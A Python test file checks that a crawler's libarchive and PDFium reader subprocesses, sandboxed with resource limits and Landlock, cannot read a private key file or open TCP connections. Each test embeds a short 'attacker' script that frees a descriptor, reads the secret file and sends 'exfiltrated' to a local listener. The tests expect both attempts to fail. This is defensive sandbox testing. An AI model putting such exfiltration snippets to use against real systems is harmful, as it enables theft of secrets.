"""Attacker's review, round 9: what code run by a libarchive (or PDFium) bug could do in its reader.

The reader (`crawler._rar_worker`) limits itself before it reads the archive: address space, CPU,
no core dump, and at most 3 open files (RLIMIT_NOFILE, its standard streams). That last limit
counts descriptors, so code that closes one may open anything in its place: a file of the data
directory (the same Unix user's), or a socket to send it away. The reader now also gives up,
through Landlock, opening any file and making or accepting any TCP connection.

A real reader process, started as `crawler.rar` starts it, whose libarchive call is replaced by the
attacker's code (a stand-in: no libarchive bug is at hand to run it), which runs where and as
libarchive would, after every limit the reader sets on itself. The PDF reader
(`crawler._pdf_worker`, PDFium) had no limit on files at all; it gets the same.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import struct
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from crawler._rar_worker import RECORD


def _landlock_abi() -> int:
    return int(ctypes.CDLL(None, use_errno=True).syscall(444, None, ctypes.c_size_t(0), ctypes.c_uint32(1)))


pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux") or _landlock_abi() < 4,
                                reason="Landlock with TCP rules (Linux >= 6.7) is not available here")

ATTACKER = """
import os, socket, sys
import crawler._rar_worker as w

SECRET, PORT = sys.argv[1], int(sys.argv[2])

def attacker(ffi, data, ordinals, max_bytes):
    said = []
    os.close(2)  # a descriptor freed under RLIMIT_NOFILE
    try:
        with open(SECRET, encoding="utf-8") as f:
            said.append("read:" + f.read())
    except OSError as e:
        said.append("open:" + type(e).__name__)
    try:
        s = socket.create_connection(("127.0.0.1", PORT), timeout=3)
        s.sendall(b"exfiltrated")
        said.append("connected")
    except OSError as e:
        said.append("connect:" + type(e).__name__)
    w._say(b"X", b"U" + "|".join(said).encode())

w._read = attacker
sys.argv = sys.argv[:1] + sys.argv[3:]
sys.exit(w.main(sys.argv[1:]))
"""


def test_code_run_by_libarchive_opens_no_file_and_no_connection(tmp_path: Path) -> None:
    secret = tmp_path / "data.key"
    secret.write_text("1:e38af91f3e1e", encoding="utf-8")
    secret.chmod(0o600)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(6)
    got: list[bytes] = []

    def accept() -> None:
        try:
            conn, _ = listener.accept()
            with conn:
                got.append(conn.recv(100))
        except OSError:
            pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    params = json.dumps({"ordinals": [0], "max_bytes": 1024}).encode()
    stdin = struct.pack(">I", len(params)) + params + b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64
    proc = subprocess.run([sys.executable, "-I", "-c", ATTACKER, str(secret), str(listener.getsockname()[1]),
                           str(256 * 2**20), "10"], input=stdin, capture_output=True, timeout=60,
                          env={"PATH": os.environ.get("PATH", "/usr/bin")})
    thread.join(8)
    listener.close()
    assert proc.returncode == 0, proc.stderr[-2000:]
    kind, length = RECORD.unpack_from(proc.stdout, 0)
    said = proc.stdout[RECORD.size + 1:RECORD.size + length].decode()
    assert kind == b"X", proc.stdout[:200]
    assert said == "open:PermissionError|connect:PermissionError", said
    assert got == []


PDF_ATTACKER = """
import os, socket, sys
import pypdfium2
import crawler._pdf_worker as w

SECRET, PORT = sys.argv[1], int(sys.argv[2])

def attacker(data):
    said = []
    try:
        with open(SECRET, encoding="utf-8") as f:
            said.append("read:" + f.read())
    except OSError as e:
        said.append("open:" + type(e).__name__)
    try:
        s = socket.create_connection(("127.0.0.1", PORT), timeout=3)
        s.sendall(b"exfiltrated")
        said.append("connected")
    except OSError as e:
        said.append("connect:" + type(e).__name__)
    w._say(b"U", 0, "|".join(said).encode())
    raise SystemExit(0)

pypdfium2.PdfDocument = attacker
sys.exit(w.main(sys.argv[3:]))
"""


def test_code_run_by_pdfium_opens_no_file_and_no_connection(tmp_path: Path) -> None:
    from crawler._pdf_worker import _HEADER

    secret = tmp_path / "data.key"
    secret.write_text("1:e38af91f3e1e", encoding="utf-8")
    secret.chmod(0o600)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(6)
    got: list[bytes] = []

    def accept() -> None:
        try:
            conn, _ = listener.accept()
            with conn:
                got.append(conn.recv(100))
        except OSError:
            pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    proc = subprocess.run([sys.executable, "-I", "-c", PDF_ATTACKER, str(secret), str(listener.getsockname()[1]),
                           "10", str(2**20), str(512 * 2**20), "10", str(2**20)], input=b"%PDF-1.4\n%%EOF\n",
                          capture_output=True, timeout=60, env={"PATH": os.environ.get("PATH", "/usr/bin")})
    thread.join(8)
    listener.close()
    assert proc.returncode == 0, proc.stderr[-2000:]
    kind, _, length = _HEADER.unpack_from(proc.stdout, 0)
    said = proc.stdout[_HEADER.size:_HEADER.size + length].decode()
    assert kind == b"U", proc.stdout[:200]
    assert said == "open:PermissionError|connect:PermissionError", said
    assert got == []
